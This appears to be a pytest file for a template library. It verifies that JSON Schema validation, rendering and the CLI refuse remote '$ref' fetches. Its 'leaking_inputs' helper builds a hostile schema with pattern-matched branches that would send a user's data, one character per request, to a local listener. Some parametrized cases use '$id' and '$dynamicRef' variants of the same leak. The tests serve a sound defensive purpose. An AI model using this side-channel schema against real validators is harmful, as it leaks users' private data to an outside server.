"""A template whose ``inputs`` schema points ``$ref`` at a server must never make us connect.

jsonschema fetches remote ``$ref`` URLs by default.  A hostile manifest that
puts a different remote ``$ref`` under each ``if``/``pattern`` branch turns
validation into a side channel that spells out the user's data, one GET per
matching branch.  A real listener on 127.0.0.1 counts every connection it is
offered while we validate (API and CLI), render and check data: it must count
zero, and each path must say which ``$ref`` it refused.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

import o3local
from o3local.bind import validate_data
from o3local.cli import main
from o3local.errors import ManifestError

from ..template.conftest import base_manifest, write_package

#: the listener serves at most this many connections, for at most this long
MAX_CONNECTIONS = 200
MAX_SECONDS = 120.0


class Listener:
    """A loopback HTTP listener that answers ``{}`` and counts connections (bounded)."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.05)
        self.port = self.sock.getsockname()[1]
        self.paths: list[str] = []
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        deadline = time.monotonic() + MAX_SECONDS
        while not self._stop.is_set() and time.monotonic() < deadline and self.connections < MAX_CONNECTIONS:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            with conn:
                conn.settimeout(1.0)
                try:
                    head = conn.recv(4096).decode("latin-1")
                    self.paths.append(head.split(" ")[1] if " " in head else head)
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n"
                                 b"Content-Length: 2\r\n\r\n{}")
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    srv = Listener()
    yield srv
    srv.close()


def leaking_inputs(port: int) -> dict:
    """An inputs schema that would GET ``/<char><position>`` for each character of the title."""
    branches = [
        {"if": {"pattern": f"^.{{{i}}}{ch}"}, "then": {"$ref": f"http://127.0.0.1:{port}/{ch}{i}"}}
        for i in range(12) for ch in "Q3 LAYOF12"
    ]
    return {
        "type": "object",
        "properties": {
            "title": {"type": "string", "allOf": branches},
            "company": {"type": "object", "properties": {"description": {"type": "string"}}},
        },
    }


DATA = {"title": "Q3 LAYOFFS 12", "company": {"description": "x"}}


def hostile_package(root: Path, port: int) -> Path:
    manifest = base_manifest() | {"inputs": leaking_inputs(port)}
    return write_package(root, manifest, files={"samples/data.json": json.dumps(DATA)})


def raised(call) -> Exception | None:
    """The O3Error ``call`` raised, or None (so the connection count is checked first)."""
    try:
        call()
    except o3local.errors.O3Error as err:
        return err
    return None


def assert_refused_ref(problems, port: int) -> None:
    refs = [p for p in problems if p.code == "manifest.schema_ref"]
    assert refs, [str(p) for p in problems]
    assert f"http://127.0.0.1:{port}/Q0" in refs[0].message
    assert refs[0].where.pointer == "/inputs/properties/title/allOf/0/then/$ref"


def test_validate_api_makes_no_connection(tmp_path, listener):
    report = o3local.validate(hostile_package(tmp_path / "p", listener.port))
    assert listener.connections == 0, listener.paths
    assert not report.ok
    assert_refused_ref(report.errors, listener.port)


def test_validate_cli_makes_no_connection(tmp_path, listener):
    root = hostile_package(tmp_path / "p", listener.port)
    result = CliRunner().invoke(main, ["validate", "--json", str(root)])
    assert listener.connections == 0, listener.paths
    assert result.exit_code == 1, result.output
    (report,) = json.loads(result.output)["reports"]
    assert "manifest.schema_ref" in [p["code"] for p in report["problems"]]


def test_render_makes_no_connection(tmp_path, listener):
    root = hostile_package(tmp_path / "p", listener.port)
    data = tmp_path / "data.json"
    data.write_text(json.dumps(DATA), "utf-8")
    err = raised(lambda: o3local.render(str(root), data=str(data), fmt="svg"))
    assert listener.connections == 0, listener.paths
    assert isinstance(err, ManifestError), err
    assert_refused_ref(err.problems, listener.port)


def test_data_validation_makes_no_connection(listener):
    """validate_data on its own (a caller that skipped the manifest check) refuses too."""
    err = raised(lambda: validate_data(DATA, leaking_inputs(listener.port), file="data.json"))
    assert listener.connections == 0, listener.paths
    assert isinstance(err, ManifestError), err
    assert err.code == "manifest.schema_ref"
    assert err.where.pointer == "/inputs/properties/title/allOf/0/then/$ref"


@pytest.mark.parametrize("inputs", [
    # a relative $ref under a remote $id resolves to the server
    lambda port: {"$id": f"http://127.0.0.1:{port}/root", "properties": {"title": {"$ref": "t"}}},
    # $dynamicRef is a reference too
    lambda port: {"properties": {"title": {"$dynamicRef": f"http://127.0.0.1:{port}/d#x"}}},
])
def test_other_reference_forms_make_no_connection(listener, inputs):
    err = raised(lambda: validate_data(DATA, inputs(listener.port)))
    assert listener.connections == 0, listener.paths
    assert isinstance(err, ManifestError), err
    assert err.code == "manifest.schema_ref"


def test_local_refs_still_work(listener):
    """Refusing to fetch does not break references inside the schema itself."""
    schema = {
        "$id": f"http://127.0.0.1:{listener.port}/root",
        "$defs": {"title": {"type": "string", "maxLength": 5}},
        "properties": {"title": {"$ref": "#/$defs/title"}},
    }
    validate_data({"title": "short"}, schema)
    with pytest.raises(o3local.errors.DataError) as err:
        validate_data({"title": "far too long"}, schema)
    assert err.value.problems[0].where.pointer == "/title"
    assert listener.connections == 0
